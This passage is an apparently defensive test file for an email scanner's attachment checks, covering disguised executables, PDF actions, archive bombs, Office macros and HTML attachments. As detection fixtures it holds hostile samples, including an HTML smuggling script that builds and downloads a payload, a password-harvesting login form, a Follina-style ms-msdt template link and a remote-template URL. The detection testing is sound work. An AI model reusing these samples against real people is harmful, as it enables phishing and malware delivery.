import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { analyze, ids } from '../../../test/helpers/analyze.ts';
import type { TestAttachment, TestMail } from '../../../test/helpers/mail.ts';
import { attachments } from './index.ts';
import {
  biffWorkbook,
  cab,
  declareSize,
  docx,
  embeddedFilePdf,
  formattedFormPdf,
  gzipNamed,
  INVOICE_LINES,
  iso,
  LAB_RESULT_LINES,
  launchPdf,
  linkOnlyPdf,
  markEncrypted,
  MSI_CLSID,
  objectStreamJsPdf,
  ole10Native,
  oleFile,
  openActionJsPdf,
  overlappingZip,
  rar4,
  rar5,
  tar,
  textPdf,
  tinyElf,
  tinyJpeg,
  tinyLnk,
  tinyPe,
  zip,
} from './test-fixtures.ts';

const vendorMail = (atts: TestAttachment[], over: Partial<TestMail> = {}): TestMail => ({
  from: 'Medline Accounts <accounts@medline-supplies.example>',
  subject: 'Invoice INV-2024-00417',
  text: 'Dear Accounts Payable,\n\nPlease find attached our invoice for last month. Payment terms are 30 days.\n\nKind regards,\nMedline Supplies',
  attachments: atts,
  ...over,
});

const run = (mail: TestMail, config?: unknown) => analyze(attachments, mail, { config });
const has = async (mail: TestMail, id: string, config?: unknown) => (await run(mail, config)).find((s) => s.id === id);

describe('attachments: executables and disguised names', () => {
  it('flags a Windows program disguised with a double extension, in plain words', async () => {
    const signals = await run(vendorMail([{ filename: 'invoice.pdf.exe', contentType: 'application/octet-stream', content: tinyPe() }]));
    assert.deepEqual(ids(signals), ['ATTACHMENT_DOUBLE_EXTENSION', 'ATTACHMENT_EXECUTABLE']);
    const disguise = signals.find((s) => s.id === 'ATTACHMENT_DOUBLE_EXTENSION')!;
    assert.equal(disguise.evidence, 'invoice.pdf.exe: Windows program disguised with a double extension (.pdf.exe)');
    assert.ok(signals.reduce((n, s) => n + s.score, 0) >= 9, 'program in document clothing should reach quarantine');
  });

  it('recognises programs by content whatever the name says (PE, ELF, shortcut)', async () => {
    for (const [content, label] of [
      [tinyPe(), 'Windows program'],
      [tinyElf(), 'Linux program'],
      [tinyLnk(), 'Windows shortcut'],
    ] as const) {
      const signals = await run(vendorMail([{ filename: 'statement.pdf', contentType: 'application/pdf', content }]));
      const exe = signals.find((s) => s.id === 'ATTACHMENT_EXECUTABLE');
      assert.ok(exe?.evidence.includes(label), `${label}: ${exe?.evidence}`);
      const mismatch = signals.find((s) => s.id === 'ATTACHMENT_TYPE_MISMATCH');
      assert.ok(mismatch?.evidence.includes(`but the content is a ${label}`), mismatch?.evidence);
    }
  });

  it('flags scripts, shortcuts and disk images by name even when the content was stripped', async () => {
    for (const name of ['Payment_Advice.js', 'scan0042.vbs', 'Remittance.hta', 'Document.lnk', 'Order.iso', 'update.ps1', 'setup.msi', 'Invoice.img']) {
      const s = await has(vendorMail([{ filename: name, contentType: 'application/octet-stream', content: '' }]), 'ATTACHMENT_EXECUTABLE');
      assert.ok(s, name);
    }
  });

  it('needs the content to agree for extensions shared with harmless formats (.img, .com)', async () => {
    const analyze75 = Buffer.alloc(4096, 0x11); // raw voxel data of an Analyze 7.5 brain scan
    assert.equal(await has(vendorMail([{ filename: 'subject01_T1.img', contentType: 'application/octet-stream', content: analyze75 }]), 'ATTACHMENT_EXECUTABLE'), undefined);
    const fat = Buffer.alloc(4096);
    fat[510] = 0x55;
    fat[511] = 0xaa;
    assert.ok(await has(vendorMail([{ filename: 'Invoice.img', contentType: 'application/octet-stream', content: fat }]), 'ATTACHMENT_EXECUTABLE'));
    assert.equal(await has(vendorMail([{ filename: 'Order confirmation - shop.example.com', contentType: 'text/html', content: '<html><body>Order 1182 confirmed</body></html>' }]), 'ATTACHMENT_EXECUTABLE'), undefined);
    assert.ok(await has(vendorMail([{ filename: 'update.com', contentType: 'application/octet-stream', content: tinyPe() }]), 'ATTACHMENT_EXECUTABLE'));
  });

  it('recognises an Apple configuration profile by content under a meaningless name', async () => {
    const profile = '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">\n<plist version="1.0"><dict><key>PayloadContent</key><array><dict><key>EmailAccountType</key><string>EmailTypeIMAP</string><key>IncomingMailServerHostName</key><string>mail.collector.example</string></dict></array><key>PayloadType</key><string>Configuration</string></dict></plist>';
    const exe = await has(vendorMail([{ filename: 'ATT00231', contentType: 'application/octet-stream', content: profile }]), 'ATTACHMENT_EXECUTABLE');
    assert.ok(exe?.evidence.includes('Apple configuration profile'), exe?.evidence);
  });

  it('detects the right-to-left override trick and blank padding', async () => {
    const rtlo = await has(vendorMail([{ filename: 'Invoice_2024\u202Efdp.exe', contentType: 'application/pdf', content: tinyPe() }]), 'ATTACHMENT_DOUBLE_EXTENSION');
    assert.ok(rtlo?.evidence.includes('[U+202E]'), rtlo?.evidence);
    assert.ok(rtlo?.evidence.includes('Invoice_2024exe.pdf'), rtlo?.evidence);
    const padded = await has(vendorMail([{ filename: 'Lab results.pdf                                   .scr', contentType: 'application/octet-stream', content: tinyPe() }]), 'ATTACHMENT_DOUBLE_EXTENSION');
    assert.ok(padded?.evidence.includes('blank padding'), padded?.evidence);
  });

  it('leaves a web bookmark (.url) alone but flags a file-share .url', async () => {
    const web = await has(vendorMail([{ filename: 'Clinic directions.url', contentType: 'application/octet-stream', content: '[InternetShortcut]\r\nURL=https://www.stmarys-health.org/directions\r\n' }]), 'ATTACHMENT_EXECUTABLE');
    assert.equal(web, undefined);
    const share = await has(vendorMail([{ filename: 'Invoice.url', contentType: 'application/octet-stream', content: '[InternetShortcut]\r\nURL=file://203.0.113.7@80/share/invoice.js\r\n' }]), 'ATTACHMENT_EXECUTABLE');
    assert.equal(share?.score, 6);
  });

  it('is quiet on ordinary attachments: invoice PDF, lab result, photos, Word minutes, calendar invite', async () => {
    const mails: TestMail[] = [
      vendorMail([{ filename: 'INV-2024-00417.pdf', contentType: 'application/pdf', content: textPdf(INVOICE_LINES) }]),
      {
        from: 'Pathology <pathology-results@stmarys-health.org>',
        subject: 'Results for your patient DOE, Jane',
        text: 'The attached report is ready. This is an automated message.',
        attachments: [{ filename: 'LabReport_00418822.pdf', contentType: 'application/pdf', content: textPdf(LAB_RESULT_LINES, ['https://portal.stmarys-health.org/results']) }],
      },
      {
        from: 'Maria Gonzalez <maria.gonzalez1987@gmail.com>',
        subject: 'Photos of the rash as requested',
        text: 'Hello Dr Patel, here are the photos you asked for, taken this morning. Maria',
        attachments: [{ filename: 'photos.zip', contentType: 'application/zip', content: zip({ 'IMG_2031.jpg': tinyJpeg(1), 'IMG_2032.jpg': tinyJpeg(2), 'IMG_2033.JPG': tinyJpeg(3) }, 0) }],
      },
      {
        from: 'Infection Control <ipc@stmarys-health.org>',
        subject: 'Minutes - IPC committee',
        text: 'Minutes attached; template from the shared drive.',
        attachments: [
          {
            filename: 'IPC minutes March.docx',
            contentType: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
            content: docx({ hyperlink: 'https://intranet.stmarys-health.org/ipc', templateTarget: 'file:///C:\\Users\\jsmith\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm' }),
          },
        ],
      },
      {
        from: 'Appointments <appointments@stmarys-health.org>',
        subject: 'Your appointment: Cardiology outpatients, 12 March 10:30',
        text: 'Please add this appointment to your calendar.',
        attachments: [
          {
            filename: 'appointment.ics',
            contentType: 'text/calendar',
            content: 'BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//St Marys//Appointments//EN\r\nBEGIN:VEVENT\r\nUID:appt-88211@stmarys-health.org\r\nDTSTART:20240312T103000Z\r\nSUMMARY:Cardiology outpatients\r\nLOCATION:Outpatients Building B\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n',
          },
        ],
      },
      {
        from: 'Rotary Newsletter <news@rotary-district.example>',
        subject: 'Spring newsletter',
        html: '<p>Our spring fundraiser raised £4,200 for the children\'s ward.</p><img src="cid:logo">',
        attachments: [{ filename: 'logo.png', contentType: 'image/png', content: Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex'), contentId: 'logo' }],
      },
      {
        from: 'Lakeside Cardiology <referrals@lakesidecardio.com>',
        subject: 'Referral letter',
        text: 'Referral letter attached in RTF as before.',
        attachments: [{ filename: 'referral.rtf', contentType: 'application/rtf', content: '{\\rtf1\\ansi\\deff0 {\\fonttbl {\\f0 Times;}}\\f0 Dear colleague, thank you for seeing Mr Brown.\\par}' }],
      },
      {
        from: 'Finance <finance@stmarys-health.org>',
        subject: 'Budget export',
        text: 'The budget report, exported from the ledger as Excel.',
        attachments: [{ filename: 'budget.xls', contentType: 'application/vnd.ms-excel', content: '<html><body><table><tr><td>Ward</td><td>Budget</td></tr></table></body></html>' }],
      },
    ];
    for (const m of mails) assert.deepEqual(ids(await run(m)), [], m.subject);
  });
});

describe('attachments: PDF', () => {
  it('finds JavaScript run by /OpenAction, written as plain text', async () => {
    const signals = await run(vendorMail([{ filename: 'Remittance.pdf', contentType: 'application/pdf', content: openActionJsPdf() }]));
    assert.deepEqual(ids(signals), ['PDF_JAVASCRIPT', 'PDF_OPENACTION']);
    assert.ok(signals.find((s) => s.id === 'PDF_OPENACTION')!.evidence.includes('opening the file triggers a JavaScript action'));
  });

  it('finds JavaScript and /OpenAction inside a Flate-compressed object stream', async () => {
    const signals = await run(vendorMail([{ filename: 'Scan_0310.pdf', contentType: 'application/pdf', content: objectStreamJsPdf() }]));
    assert.deepEqual(ids(signals), ['PDF_JAVASCRIPT', 'PDF_OPENACTION']);
    assert.ok(signals.find((s) => s.id === 'PDF_JAVASCRIPT')!.evidence.includes('exportDataObject'));
  });

  it('sees through #xx name obfuscation and weighs it up', async () => {
    const hex = (n: string) => n.replace(/a/g, '#61').replace(/S$/, '#53');
    const js = await has(vendorMail([{ filename: 'doc.pdf', contentType: 'application/pdf', content: openActionJsPdf(hex) }]), 'PDF_JAVASCRIPT');
    assert.ok(js?.evidence.includes('/J#61v#61Script'), js?.evidence);
    assert.equal(js?.score, 4.5);
  });

  it('flags /Launch and embedded files, and inspects the embedded file itself', async () => {
    const launch = await has(vendorMail([{ filename: 'statement.pdf', contentType: 'application/pdf', content: launchPdf() }]), 'PDF_LAUNCH');
    assert.ok(launch?.evidence.includes('cmd.exe'), launch?.evidence);
    const signals = await run(vendorMail([{ filename: 'Order.pdf', contentType: 'application/pdf', content: embeddedFilePdf('Order_details.exe', tinyPe()) }]));
    assert.deepEqual(ids(signals), ['ARCHIVE_EXECUTABLE', 'PDF_EMBEDDED_FILE']);
    assert.ok(signals.find((s) => s.id === 'ARCHIVE_EXECUTABLE')!.evidence.startsWith('Order.pdf → Order_details.exe: Windows program'));
  });

  it('does not flag e-invoices that embed their XML (ZUGFeRD / Factur-X)', async () => {
    const xml = Buffer.from('<?xml version="1.0"?><rsm:CrossIndustryInvoice xmlns:rsm="urn:un:unece:uncefact:data:standard:CrossIndustryInvoice:100"/>');
    assert.deepEqual(ids(await run(vendorMail([{ filename: 'INV-2024-00417.pdf', contentType: 'application/pdf', content: embeddedFilePdf('factur-x.xml', xml) }]))), []);
  });

  it('flags a one-page PDF that is only a link, not a text PDF with a portal link', async () => {
    const lure = await has(vendorMail([{ filename: 'Secure_Document.pdf', contentType: 'application/pdf', content: linkOnlyPdf('https://docs-share.example/view?id=8812') }]), 'PDF_LINK_ONLY');
    assert.ok(lure?.evidence.includes('docs-share.example'), lure?.evidence);
    assert.ok(lure!.score < 5, 'a link lure alone must not tag');
    assert.equal(await has(vendorMail([{ filename: 'results.pdf', contentType: 'application/pdf', content: textPdf(LAB_RESULT_LINES, ['https://portal.stmarys-health.org/results']) }]), 'PDF_LINK_ONLY'), undefined);
  });

  it('ignores Acrobat form-formatting scripts in a fillable registration form', async () => {
    assert.deepEqual(ids(await run(vendorMail([{ filename: 'registration-form.pdf', contentType: 'application/pdf', content: formattedFormPdf() }]))), []);
  });

  it('uses the declared type only when the name says nothing', async () => {
    const page = '<html><body><form action="https://x.example/a.php"><input type="password" name="p"></form></body></html>';
    const unnamed = await has(vendorMail([{ filename: 'Document', contentType: 'application/pdf', content: page }]), 'ATTACHMENT_TYPE_MISMATCH');
    assert.ok(unnamed?.evidence.includes('declared as application/pdf but the content is a web page'), unnamed?.evidence);
    assert.equal(await has(vendorMail([{ filename: 'minutes.htm', contentType: 'application/msword', content: '<html><body><p>Minutes</p></body></html>' }]), 'ATTACHMENT_TYPE_MISMATCH'), undefined);
  });

  it('reports an HTML page dressed up as a PDF', async () => {
    const mismatch = await has(vendorMail([{ filename: 'Invoice.pdf', contentType: 'application/pdf', content: '<html><body><form action="https://x.example/a.php"><input type="password" name="p"></form></body></html>' }]), 'ATTACHMENT_TYPE_MISMATCH');
    assert.ok(mismatch?.evidence.includes('named as a .pdf file but the content is a web page'), mismatch?.evidence);
  });
});

describe('attachments: archives', () => {
  it('finds programs inside zip archives, also nested', async () => {
    const inner = zip({ 'Invoice_0417.js': 'var s=new ActiveXObject("WScript.Shell");' });
    const signals = await run(vendorMail([{ filename: 'Invoice.zip', contentType: 'application/zip', content: zip({ 'docs/readme.txt': 'see inner', 'docs/inner.zip': inner }) }]));
    const exe = signals.find((s) => s.id === 'ARCHIVE_EXECUTABLE');
    assert.ok(exe?.evidence.startsWith('Invoice.zip → docs/inner.zip → Invoice_0417.js: JScript'), exe?.evidence);
  });

  it('finds a program by content inside a zip even under an innocent name', async () => {
    const exe = await has(vendorMail([{ filename: 'scans.zip', contentType: 'application/zip', content: zip({ 'scan001.jpg': tinyPe() }) }]), 'ARCHIVE_EXECUTABLE');
    assert.ok(exe?.evidence.includes('Windows program (recognised by its content)'), exe?.evidence);
  });

  it('stops at the nesting limit and says so', async () => {
    let z = zip({ 'payload.exe': tinyPe() });
    for (let i = 0; i < 4; i++) z = zip({ [`layer${i}.zip`]: z });
    const signals = await run(vendorMail([{ filename: 'deep.zip', contentType: 'application/zip', content: z }]));
    const unreadable = signals.find((s) => s.id === 'ARCHIVE_UNREADABLE');
    assert.ok(unreadable?.evidence.includes('nested more than 3 levels deep'), unreadable?.evidence);
  });

  it('flags password-protected zips, more when the body gives the password', async () => {
    const locked = markEncrypted(zip({ 'Invoice_March.doc': 'x'.repeat(300) }));
    const plain = await has(vendorMail([{ filename: 'Invoice.zip', contentType: 'application/zip', content: locked }]), 'ARCHIVE_ENCRYPTED');
    assert.equal(plain?.score, 2);
    assert.ok(plain?.evidence.includes('Invoice_March.doc'));
    const withPassword = await has(
      vendorMail([{ filename: 'Invoice.zip', contentType: 'application/zip', content: locked }], { text: 'Your invoice is attached.\nPassword: 7781\nThank you.' }),
      'ARCHIVE_ENCRYPTED',
    );
    assert.equal(withPassword?.score, 3.5);
    assert.ok(withPassword?.evidence.includes('the message body gives the password'));
    // Names stay readable in an encrypted zip, so a program inside is still seen.
    assert.ok(await has(vendorMail([{ filename: 'a.zip', contentType: 'application/zip', content: markEncrypted(zip({ 'run.exe': tinyPe() })) }]), 'ARCHIVE_EXECUTABLE'));
  });

  it('treats a decompression bomb as a signal, quickly and without inflating it', async () => {
    const zeros = Buffer.alloc(120 * 1024 * 1024);
    const bomb = zip({ 'logs/export.csv': zeros }, 1);
    const started = Date.now();
    const signals = await run(vendorMail([{ filename: 'logs.zip', contentType: 'application/zip', content: bomb }]));
    assert.ok(Date.now() - started < 5000, 'bomb guard must be fast');
    const u = signals.find((s) => s.id === 'ARCHIVE_UNREADABLE');
    assert.ok(u?.evidence.includes('decompression bomb'), u?.evidence);
    assert.equal(u?.score, 4);
  });

  it('catches a nested member that lies about its size, and overlapping-entry bombs', async () => {
    // The outer zip claims its inner archive is 2 KB; stored (uncompressed) inside, it is 4 MB.
    const inner = zip({ 'a.txt': Buffer.alloc(4 * 1024 * 1024, 0x41) }, 0);
    const liar = declareSize(zip({ 'inner.zip': inner }, 9), 2048);
    const signals = await run(vendorMail([{ filename: 'x.zip', contentType: 'application/zip', content: liar }]), { limits: { maxMemberBytes: 64 * 1024 } });
    const lie = signals.find((s) => s.id === 'ARCHIVE_UNREADABLE');
    assert.ok(lie?.evidence.includes('declares 2 KB but expands beyond 64 KB'), lie?.evidence);
    const overlap = await has(vendorMail([{ filename: 'y.zip', contentType: 'application/zip', content: overlappingZip() }]), 'ARCHIVE_UNREADABLE');
    assert.ok(overlap?.evidence.includes('overlapping'), overlap?.evidence);
  });

  it('bounds the work of sniffing many small-looking members that expand hugely', async () => {
    const files: Record<string, Buffer> = {};
    const zeros = Buffer.alloc(1024 * 1024);
    for (let i = 0; i < 40; i++) files[`part${i}.dat`] = zeros;
    const sneaky = declareSize(zip(files, 1), 100);
    const started = Date.now();
    const u = await has(vendorMail([{ filename: 'data.zip', contentType: 'application/zip', content: sneaky }]), 'ARCHIVE_UNREADABLE', { limits: { maxInflateBytes: 4 * 1024 * 1024 } });
    assert.ok(Date.now() - started < 3000, 'sniffing must stay within the inflation budget');
    assert.ok(u?.evidence.includes('decompression budget'), u?.evidence);
  });

  it('judges a Java archive as one program, not as a zip full of classes', async () => {
    const jar = zip({ 'META-INF/MANIFEST.MF': 'Main-Class: app.Main\n', 'app/Main.class': Buffer.from([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 52, 0, 1]) });
    assert.deepEqual(ids(await run(vendorMail([{ filename: 'Invoice.jar', contentType: 'application/java-archive', content: jar }]))), ['ATTACHMENT_EXECUTABLE']);
  });

  it('reports archives with more members than it will list', async () => {
    const many: Record<string, string> = {};
    for (let i = 0; i < 12; i++) many[`f${i}.txt`] = `line ${i}`;
    const u = await has(vendorMail([{ filename: 'many.zip', contentType: 'application/zip', content: zip(many) }]), 'ARCHIVE_UNREADABLE', { limits: { maxArchiveEntries: 5 } });
    assert.ok(u?.evidence.includes('declares 12 files'), u?.evidence);
  });

  it('lists RAR (4 and 5), cabinet, ISO, tar.gz and gzip members by name', async () => {
    const cases: [string, Buffer, string][] = [
      ['Order.rar', rar4('Order_2024.exe'), 'Order_2024.exe'],
      ['Order5.rar', rar5('Quote.scr'), 'Quote.scr'],
      ['update.cab', cab(['setup.exe', 'readme.txt']), 'setup.exe'],
      ['bundle.tgz', gzipNamed('bundle.tar', tar({ 'bundle/run.bat': '@echo off\r\n' })), 'bundle.tar → bundle/run.bat'],
      ['invoice.gz', gzipNamed('invoice.exe', tinyPe()), 'invoice.exe'],
    ];
    for (const [name, content, inner] of cases) {
      const exe = await has(vendorMail([{ filename: name, contentType: 'application/octet-stream', content }]), 'ARCHIVE_EXECUTABLE');
      assert.ok(exe?.evidence.includes(`${name} → ${inner}`), `${name}: ${exe?.evidence}`);
    }
    const img = await run(vendorMail([{ filename: 'Scan.iso', contentType: 'application/octet-stream', content: iso({ 'Scan.lnk': tinyLnk() }) }]));
    assert.deepEqual(ids(img), ['ARCHIVE_EXECUTABLE', 'ATTACHMENT_EXECUTABLE']);
    assert.ok(img.find((s) => s.id === 'ARCHIVE_EXECUTABLE')!.evidence.includes('Scan.iso → SCAN.LNK'));
  });

  it('flags encrypted RAR headers and opaque 7-Zip archives', async () => {
    const rar = await run(vendorMail([{ filename: 'docs.rar', contentType: 'application/x-rar', content: rar4('x.exe', { encryptedHeaders: true }) }]));
    assert.deepEqual(ids(rar), ['ARCHIVE_ENCRYPTED', 'ARCHIVE_OPAQUE']);
    const sevenZip = Buffer.concat([Buffer.from([0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c, 0, 4]), Buffer.alloc(100)]);
    const s = await has(vendorMail([{ filename: 'docs.7z', contentType: 'application/octet-stream', content: sevenZip }]), 'ARCHIVE_OPAQUE');
    assert.equal(s?.score, 1);
  });

  it('does not call a software bundle with many scripts a dropper', async () => {
    const files: Record<string, string> = {};
    for (let i = 0; i < 15; i++) files[`site/js/module${i}.js`] = `export const m${i} = ${i};`;
    files['site/index.html'] = '<html><body>Rota viewer</body></html>';
    const s = await has(vendorMail([{ filename: 'rota-viewer.zip', contentType: 'application/zip', content: zip(files) }]), 'ARCHIVE_EXECUTABLE');
    assert.ok(s && s.score < 5, `bundle score ${s?.score}`);
  });
});

describe('attachments: Office', () => {
  it('flags an OOXML document with a VBA project (docm)', async () => {
    const signals = await run(vendorMail([{ filename: 'Invoice.docm', contentType: 'application/vnd.ms-word.document.macroEnabled.12', content: docx({ macro: true }) }]));
    assert.deepEqual(ids(signals), ['OFFICE_MACRO']);
    assert.ok(signals[0].evidence.includes('word/vbaProject.bin'), signals[0].evidence);
  });

  it('flags macro-enabled formats by name when the content is missing', async () => {
    const s = await has(vendorMail([{ filename: 'Budget.xlsm', contentType: 'application/octet-stream', content: '' }]), 'OFFICE_MACRO');
    assert.ok(s?.evidence.includes('(by its name)'));
  });

  it('flags VBA and Excel 4.0 macro sheets in legacy OLE files, and MSI installers', async () => {
    const doc = oleFile([{ path: 'WordDocument', data: Buffer.alloc(5000, 0x20) }, { path: 'Macros/VBA/dir', data: Buffer.alloc(40, 1) }, { path: 'Macros/VBA/ThisDocument', data: Buffer.alloc(300, 2) }, { path: 'Macros/PROJECT', data: Buffer.from('ID="{1}"') }]);
    const vba = await has(vendorMail([{ filename: 'Invoice.doc', contentType: 'application/msword', content: doc }]), 'OFFICE_MACRO');
    assert.ok(vba?.evidence.includes('VBA macro project'), vba?.evidence);
    const xls = oleFile([{ path: 'Workbook', data: biffWorkbook('Auto_Open', 1, 2) }]);
    const xlm = await has(vendorMail([{ filename: 'Payroll.xls', contentType: 'application/vnd.ms-excel', content: xls }]), 'OFFICE_MACRO');
    assert.ok(xlm?.evidence.includes('"Auto_Open (very hidden)"'), xlm?.evidence);
    const msi = await has(vendorMail([{ filename: 'Invoice.doc', contentType: 'application/msword', content: oleFile([{ path: 'SummaryInformation', data: Buffer.alloc(200) }], MSI_CLSID) }]), 'ATTACHMENT_EXECUTABLE');
    assert.ok(msi?.evidence.includes('Windows installer'), msi?.evidence);
  });

  it('is quiet on a plain legacy Word document and worksheet', async () => {
    const doc = oleFile([{ path: 'WordDocument', data: Buffer.alloc(5000, 0x20) }, { path: '\u0005SummaryInformation', data: Buffer.alloc(200) }, { path: '1Table', data: Buffer.alloc(900, 3) }]);
    assert.deepEqual(ids(await run(vendorMail([{ filename: 'Rota.doc', contentType: 'application/msword', content: doc }]))), []);
    const xls = oleFile([{ path: 'Workbook', data: biffWorkbook('Sheet1', 0) }]);
    assert.deepEqual(ids(await run(vendorMail([{ filename: 'Rota.xls', contentType: 'application/vnd.ms-excel', content: xls }]))), []);
  });

  it('finds files packaged inside a document (OLE Package object)', async () => {
    const embedded = oleFile([{ path: '\u0001Ole10Native', data: ole10Native('Invoice.js', Buffer.from('WScript.Shell'.repeat(400))) }]);
    const signals = await run(vendorMail([{ filename: 'Order.docx', contentType: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document', content: docx({ extraParts: { 'word/embeddings/oleObject1.bin': embedded } }) }]));
    assert.deepEqual(ids(signals), ['ARCHIVE_EXECUTABLE', 'OFFICE_EMBEDDED_OBJECT']);
    assert.ok(signals.find((s) => s.id === 'ARCHIVE_EXECUTABLE')!.evidence.includes('oleObject1.bin → Invoice.js'));
  });

  it('flags remote template injection and protocol-handler links, not local templates', async () => {
    const t = await has(vendorMail([{ filename: 'CV.docx', contentType: 'application/octet-stream', content: docx({ templateTarget: 'http://198.51.100.23/template.dotm' }) }]), 'TEMPLATE_INJECTION');
    assert.ok(t?.evidence.includes('loads its template from "http://198.51.100.23/template.dotm"'), t?.evidence);
    const follina = await has(vendorMail([{ filename: 'CV.docx', contentType: 'application/octet-stream', content: docx({ templateTarget: 'ms-msdt:/id PCWDiagnostic /skip force' }) }]), 'TEMPLATE_INJECTION');
    assert.equal(follina?.score, 7.5);
  });

  it('flags RTF with an auto-updating Equation Editor object', async () => {
    const rtf = '{\\rtf1{\\object\\objemb\\objupdate{\\*\\objclass Equation.3}\\objw380\\objh260{\\*\\objdata 01050000020000000b0000004571756174696f6e2e3300}}}';
    const s = await has(vendorMail([{ filename: 'Quote.doc', contentType: 'application/msword', content: rtf }]), 'OFFICE_EMBEDDED_OBJECT');
    assert.ok(s?.evidence.includes('Equation Editor') && s.evidence.includes('objupdate'), s?.evidence);
  });
});

describe('attachments: HTML', () => {
  const PHISH_PAGE = `<!DOCTYPE html><html><head><title>Microsoft 365</title></head><body>
    <div class="box"><img src="data:image/png;base64,iVBORw0KGgo="><h2>Sign in to view the shared document</h2>
    <form method="POST" action="https://office365-docs.example/next.php">
      <input type="email" name="login" value="staff@stmarys-health.org">
      <input type="password" name="passwd" placeholder="Password">
      <button type="submit">Sign in</button>
    </form></div></body></html>`;
  const SMUGGLER = `<html><body><p>Your attachment is downloading…</p><script>
    var payload = "${zip({ 'Invoice.exe': tinyPe(), 'pad.bin': Buffer.alloc(3000, 9) }, 0).toString('base64')}";
    function b64ToBlob(b) { var bin = atob(b); var arr = new Uint8Array(bin.length); for (var i = 0; i < bin.length; i++) arr[i] = bin.charCodeAt(i); return new Blob([arr], {type: 'application/octet-stream'}); }
    var blob = b64ToBlob(payload);
    if (window.navigator.msSaveOrOpenBlob) { window.navigator.msSaveOrOpenBlob(blob, 'Invoice.iso'); }
    else { var a = document.createElement('a'); a.href = window.URL.createObjectURL(blob); a.download = 'Invoice.iso'; document.body.appendChild(a); a.click(); }
  </script></body></html>`;

  it('flags a local login page', async () => {
    const signals = await run(vendorMail([{ filename: 'Shared_Document.html', contentType: 'text/html', content: PHISH_PAGE }]));
    assert.deepEqual(ids(signals), ['HTML_ATTACHMENT', 'HTML_ATTACHMENT_FORM']);
    const form = signals.find((s) => s.id === 'HTML_ATTACHMENT_FORM')!;
    assert.ok(form.evidence.includes('asks for a password'));
    assert.ok(form.evidence.includes('office365-docs.example'));
  });

  it('flags HTML smuggling', async () => {
    const s = await has(vendorMail([{ filename: 'Invoice_0417.htm', contentType: 'text/html', content: SMUGGLER }]), 'HTML_SMUGGLING');
    assert.ok(s?.evidence.includes('HTML smuggling'), s?.evidence);
    assert.ok(s?.evidence.includes('hidden zip archive'), s?.evidence);
    assert.equal(s?.score, 5);
  });

  it('flags an HTML redirector and a scripted SVG', async () => {
    const redirect = await has(vendorMail([{ filename: 'Fax_Message.html', contentType: 'text/html', content: '<html><script>window.location.href="https://fax-portal.example/m/8812";</script></html>' }]), 'HTML_SMUGGLING');
    assert.ok(redirect?.evidence.includes('fax-portal.example'), redirect?.evidence);
    const svg = await has(vendorMail([{ filename: 'Voicemail.svg', contentType: 'image/svg+xml', content: '<svg xmlns="http://www.w3.org/2000/svg"><script>location.href=atob("aHR0cHM6Ly9ldmls")</script></svg>' }]), 'HTML_SMUGGLING');
    assert.ok(svg?.evidence.includes('Voicemail.svg: SVG image runs script ("location.href=atob'), svg?.evidence);
  });

  it('counts an .html attachment whose content was stripped, by its name', async () => {
    const s = await has(vendorMail([{ filename: 'Remittance_Advice.html', contentType: 'text/html', content: '' }]), 'HTML_ATTACHMENT');
    assert.ok(s?.evidence.includes('by its name'));
  });

  it('does not mistake a page with inline SVG icons for a scripted SVG file', async () => {
    const page = `<html><body><svg width="16" height="16"><path d="M0 0h16v16z"/></svg><p>${'Ward news. '.repeat(200)}</p><script>document.getElementById('y').textContent = '2024';</script></body></html>`;
    assert.deepEqual(ids(await run(vendorMail([{ filename: 'newsletter.html', contentType: 'text/html', content: page }]))), ['HTML_ATTACHMENT']);
  });

  it('keeps an HTML attachment without forms or script weak, and leaves SVG drawings alone', async () => {
    const s = await run({
      from: 'Estates <estates@stmarys-health.org>',
      subject: 'Car park closure notice',
      text: 'Notice attached.',
      attachments: [
        { filename: 'notice.html', contentType: 'text/html', content: '<html><body><h1>Car park B closed 4-6 March</h1><p>Please use the multi-storey.</p><form action="https://www.stmarys-health.org/search"><input name="q"></form></body></html>' },
        { filename: 'map.svg', contentType: 'image/svg+xml', content: '<svg xmlns="http://www.w3.org/2000/svg" width="200" height="100"><rect width="200" height="100" fill="#eee"/><text x="10" y="50">Car park B</text></svg>' },
      ],
    });
    assert.deepEqual(ids(s), ['HTML_ATTACHMENT']);
    assert.equal(s[0].score, 1);
  });

  it('does not treat a secure-message envelope posting to its own service as phishing', async () => {
    const envelope = `<html><body><p>You have received a secure message.</p>
      <form method="post" action="https://res.cisco.com/websafe/decrypt"><input type="hidden" name="payload" value="${'QUFB'.repeat(800)}">
      <input type="password" name="key"><input type="submit" value="Open"></form>
      <script>function go(){document.forms[0].submit();}</script></body></html>`;
    const s = await run(vendorMail([{ filename: 'securedoc.html', contentType: 'text/html', content: envelope }]));
    assert.deepEqual(ids(s), ['HTML_ATTACHMENT']);
  });
});

describe('attachments: forwarded messages and limits', () => {
  it('inspects attachments of a forwarded message', async () => {
    const inner = {
      filename: 'FW Invoice.eml',
      contentType: 'message/rfc822',
      content: [
        'From: Billing <billing@medline-supplies.example>',
        'To: ap@stmarys-health.org',
        'Subject: Invoice',
        'MIME-Version: 1.0',
        'Content-Type: multipart/mixed; boundary="b1"',
        '',
        '--b1',
        'Content-Type: text/plain',
        '',
        'see attached',
        '--b1',
        'Content-Type: application/octet-stream; name="invoice.pdf.exe"',
        'Content-Disposition: attachment; filename="invoice.pdf.exe"',
        'Content-Transfer-Encoding: base64',
        '',
        tinyPe().toString('base64'),
        '--b1--',
        '',
      ].join('\r\n'),
    };
    const signals = await run(vendorMail([inner]));
    const exe = signals.find((s) => s.id === 'ATTACHMENT_EXECUTABLE');
    assert.ok(exe?.evidence.startsWith('FW Invoice.eml → invoice.pdf.exe'), exe?.evidence);
  });

  it('emits one signal per kind with combined evidence', async () => {
    const signals = await run(vendorMail(['a.exe', 'b.scr', 'c.js', 'd.bat', 'e.vbs'].map((filename) => ({ filename, contentType: 'application/octet-stream', content: 'x' }))));
    const exe = signals.filter((s) => s.id === 'ATTACHMENT_EXECUTABLE');
    assert.equal(exe.length, 1);
